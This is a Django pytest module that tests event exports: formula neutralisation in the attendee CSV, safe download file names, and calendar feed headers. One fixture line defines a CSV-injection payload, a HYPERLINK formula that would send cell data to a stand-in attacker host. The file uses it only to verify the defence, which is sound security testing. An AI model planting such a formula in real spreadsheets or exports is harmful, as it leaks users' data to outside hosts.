"""The attendee CSV goes through the one CSV writer (formulas neutralised); downloads carry a safe file name."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from coalition.events.tests.factories import EventFactory, RSVPFactory
from coalition.lib.tests.helpers import saved_name

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'


@pytest.fixture
def event(org_a):
    event = EventFactory(organisation=org_a, capacity=10)
    RSVPFactory(event=event, name=FORMULA, email="ana@example.org", guests=2)
    return event


def test_a_formula_typed_as_a_name_comes_out_of_the_attendee_csv_neutralised(client, edna, event):
    client.force_login(edna)

    response = client.get(reverse("events:attendees", args=[event.pk]), {"format": "csv"})

    [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    assert row["name"] == "'" + FORMULA
    assert (row["email"], row["guests"], row["status"]) == ("ana@example.org", "2", "confirmed")
    assert saved_name(response) == f"event-{event.pk}-attendees.csv"
    assert response["Cache-Control"] == "no-store"


def test_an_event_downloads_as_an_ics_file(client, event):
    response = client.get(reverse("events:ics", args=[event.pk]))

    assert response.status_code == 200 and response["Content-Type"].startswith("text/calendar")
    assert saved_name(response) == f"event-{event.pk}.ics"


def test_the_feed_is_read_by_calendar_clients_not_downloaded(client, event):
    response = client.get(reverse("events:feed"))

    assert response.status_code == 200 and "Content-Disposition" not in response
